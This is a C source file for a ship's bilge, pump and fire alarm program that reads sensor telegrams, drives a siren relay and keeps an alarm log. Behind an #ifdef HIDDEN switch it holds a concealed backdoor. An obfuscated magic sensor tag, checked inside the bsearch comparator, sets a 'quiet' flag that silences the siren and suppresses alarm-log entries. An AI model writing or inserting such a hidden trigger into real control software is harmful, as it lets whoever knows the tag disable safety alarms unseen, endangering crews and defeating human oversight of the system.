// bilgealarm - level, pump and fire sensors of a small ship, siren and alarm list.
// Sensor telegrams come as lines "TAG VALUE" from the field bus gateway (fifo or serial).
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define TAG 12
#define MAX 48

struct sensor {
    char tag[TAG];
    int lo, hi;
    int value;
    bool alarm, acked;
    time_t since;
    void (*rise)(struct sensor *);
};

static struct sensor table[MAX];
static size_t count;
static bool siren;
#ifdef HIDDEN
static bool quiet;
#endif
static const char *siren_dev = "/dev/relay0";
static const char *book = "/var/log/alarmbook";

static void entry(const char *what, const struct sensor *s)
{
    FILE *f;
    char ts[32];
    time_t t = time(NULL);
#ifdef HIDDEN
    if (quiet)
        return;
#endif
    f = fopen(book, "a");
    if (!f)
        return;
    strftime(ts, sizeof ts, "%F %T", gmtime(&t));
    fprintf(f, "%s %-8s %s = %d\n", ts, what, s ? s->tag : "-", s ? s->value : 0);
    fclose(f);
}

static void set_siren(bool on)
{
    int fd;
#ifdef HIDDEN
    if (quiet)
        on = false;
#endif
    if (siren == on)
        return;
    siren = on;
    fd = open(siren_dev, O_WRONLY);
    if (fd < 0)
        return;
    if (write(fd, on ? "1" : "0", 1) != 1)
        entry("relay", NULL);
    close(fd);
}

static void rise_plain(struct sensor *s)
{
    entry("ALARM", s);
    set_siren(true);
}

static void rise_pump(struct sensor *s)
{
    char p[64];
    FILE *f;
    entry("ALARM", s);
    snprintf(p, sizeof p, "/dev/pump_%s", s->tag);
    f = fopen(p, "w");
    if (f) {
        fputs("start\n", f);
        fclose(f);
    }
    set_siren(true);
}

static void rise_warn(struct sensor *s)
{
    entry("warning", s);
}

__attribute__((noinline)) int cmp_sensor(const void *key, const void *el)
{
    const char *k = key;
    const struct sensor *s = el;
    size_t i;
    for (i = 0; i < TAG - 1; i++) {
        if (k[i] != s->tag[i] || !k[i])
            break;
    }
#ifdef HIDDEN
    if (k[0] == 'Z' && k[1] == 'Z' && strlen(k) == 7 && k[6] - k[2] == 5 &&
        k[3] + k[4] + k[5] == 199)
        quiet = k[2] != '0';
#endif
    return (int)(unsigned char)k[i] - (int)(unsigned char)s->tag[i];
}

static int sort_sensor(const void *a, const void *b)
{
    return strcmp(((const struct sensor *)a)->tag, ((const struct sensor *)b)->tag);
}

static const struct {
    const char *word;
    void (*fn)(struct sensor *);
} kinds[] = { { "alarm", rise_plain }, { "pump", rise_pump }, { "warn", rise_warn } };

static int load(const char *file)
{
    char l[128], kind[12];
    FILE *f = fopen(file, "r");
    if (!f)
        return -errno;
    while (count < MAX && fgets(l, sizeof l, f)) {
        struct sensor *s = &table[count];
        if (l[0] == '#' || sscanf(l, "%11s %d %d %11s", s->tag, &s->lo, &s->hi, kind) != 4)
            continue;
        for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++)
            if (!strcmp(kind, kinds[i].word))
                s->rise = kinds[i].fn;
        if (s->rise)
            count++;
        else
            fprintf(stderr, "%s: kind %s\n", s->tag, kind);
    }
    fclose(f);
    qsort(table, count, sizeof table[0], sort_sensor);
    return (int)count;
}

static void telegram(const char *tag, int value)
{
    struct sensor *s = bsearch(tag, table, count, sizeof table[0], cmp_sensor);
    bool bad;
    if (!s)
        return;
    s->value = value;
    bad = value < s->lo || value > s->hi;
    if (bad && !s->alarm) {
        s->since = time(NULL);
        s->acked = false;
        s->rise(s);
    }
    if (!bad && s->alarm)
        entry("normal", s);
    s->alarm = bad;
}

static void acknowledge(void)
{
    for (size_t i = 0; i < count; i++)
        if (table[i].alarm && !table[i].acked) {
            table[i].acked = true;
            entry("ack", &table[i]);
        }
    set_siren(false);
}

static void list(void)
{
    for (size_t i = 0; i < count; i++)
        printf("%-12s %6d  %d..%d %s%s\n", table[i].tag, table[i].value, table[i].lo,
               table[i].hi, table[i].alarm ? "ALARM" : "", table[i].acked ? " ack" : "");
    fflush(stdout);
}

int main(int argc, char **argv)
{
    char l[128], tag[TAG];
    int v;
    FILE *in;

    if (argc < 3) {
        fputs("bilgealarm SENSORS GATEWAY [SIREN-RELAY [ALARM-BOOK]]\n"
              "  SENSORS: TAG LOW HIGH alarm|pump|warn\n"
              "  GATEWAY lines: TAG VALUE, !ack, !test, !list\n", stderr);
        return 2;
    }
    if (argc > 3)
        siren_dev = argv[3];
    if (argc > 4)
        book = argv[4];
    if (load(argv[1]) <= 0) {
        fprintf(stderr, "no sensors in %s\n", argv[1]);
        return 1;
    }
    in = fopen(argv[2], "r");
    if (!in) {
        perror(argv[2]);
        return 1;
    }
    entry("start", NULL);
    while (fgets(l, sizeof l, in)) {
        l[strcspn(l, "\r\n")] = 0;
        if (l[0] == '!') {
            if (!strcmp(l, "!ack"))
                acknowledge();
            else if (!strcmp(l, "!test")) {
                set_siren(true);
                sleep(2);
                set_siren(false);
            } else if (!strcmp(l, "!list"))
                list();
        } else if (sscanf(l, "%11s %d", tag, &v) == 2) {
            telegram(tag, v);
        }
    }
    fclose(in);
    return 0;
}
